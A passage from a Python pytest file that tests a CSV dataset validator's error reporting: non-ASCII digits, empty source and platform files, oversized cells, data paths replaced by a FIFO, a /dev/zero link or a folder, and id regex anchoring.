    assert check(synthetic_data_copy).problems == []


@pytest.mark.parametrize("column, cell", [("value", "٣٨٥٠"), ("value", "３８５０"), ("period", "٢٠٢٠Q١"), ("value", "5०")])
def test_digits_other_than_0_to_9_are_an_error(synthetic_data_copy, column, cell):
    """Issue 24 (cosmetic): Arabic-Indic digits passed as plain digits."""
    line = append_row(synthetic_data_copy, **{column: cell})
    report = check(synthetic_data_copy)
    assert ("metrics.csv", line, column) in where(report.errors)
    assert "write numbers, periods and dates with the digits 0-9" in str(report.errors)


def test_a_digit_other_than_0_to_9_in_a_date_is_an_error(synthetic_data_copy):
    path = synthetic_data_copy / "sources.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("2022-03-20", "٢٠٢٢-03-20", 1), encoding="utf-8")
    report = check(synthetic_data_copy)
    assert ("sources.csv", 2, "published") in where(report.errors)


@pytest.mark.parametrize("content", ["", "source_id,title,publisher,url,published,read_at,tier\n"])
def test_an_empty_sources_file_is_one_error_not_one_per_row(synthetic_data_copy, content):
    """Issue 24 (cosmetic): an empty sources.csv gave 529 cascade errors."""
    (synthetic_data_copy / "sources.csv").write_text(content, encoding="utf-8")
    report = check(synthetic_data_copy)
    assert len(report.errors) == 1, "\n".join(map(str, report.errors))
    assert report.errors[0].file == "sources.csv" and "could not be checked (not listed one by one)" in report.errors[0].message


def test_an_empty_platforms_file_does_not_cascade_into_one_unknown_platform_per_row(synthetic_data_copy):
    (synthetic_data_copy / "platforms.csv").write_text("", encoding="utf-8")
    report = check(synthetic_data_copy)
    assert report.errors[0].file == "platforms.csv" and "ids cited in events.csv, metrics.csv could not be checked" in report.errors[0].message
    assert not [p for p in report.errors if p.column == "platform"]  # only the FY periods that need a fiscal year remain


def test_a_huge_cell_is_reported_for_what_it_is(synthetic_data_copy):
    """Issue 24 (cosmetic): a 165 KB cell was reported as "malformed CSV ... check the quotes"."""
    line = append_row(synthetic_data_copy, note="x" * 165_000)
    report = check(synthetic_data_copy)
    assert where(report.errors) == [("metrics.csv", line, None)]
    assert "a cell starting on this line is longer than 131,072 characters; shorten it" in report.errors[0].message


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder"])
def test_a_data_file_that_is_not_a_regular_file_is_refused_without_reading(synthetic_data_copy, kind):
    """Issue 24 item 13: a FIFO hung validate; a link to /dev/zero gave "internal error: MemoryError"."""
    import os

    path = synthetic_data_copy / "events.csv"
    path.unlink()
    if kind == "fifo":
        if not hasattr(os, "mkfifo"):
            pytest.skip("no FIFOs here")
        os.mkfifo(path)
    elif kind == "dev-zero":
        if not Path("/dev/zero").exists():
            pytest.skip("no /dev/zero here")
        path.symlink_to("/dev/zero")
    else:
        path.mkdir()
    report = check(synthetic_data_copy)
    assert [str(p) for p in report.errors] == [
        "events.csv: is not a regular file (a FIFO, a device or a socket, or a link to one); the data files must be plain CSV files"]


def test_ids_end_where_they_end(synthetic_data_copy):
    """`$` matched before a final newline: an id must match to its very end (\\Z)."""
    from kreport.dataset.validate import _SOURCE_ID, PLATFORM_ID

    assert not _SOURCE_ID.match("id\n") and not PLATFORM_ID.match("kuaishou\n")
    assert _SOURCE_ID.match("id") and PLATFORM_ID.match("kuaishou")
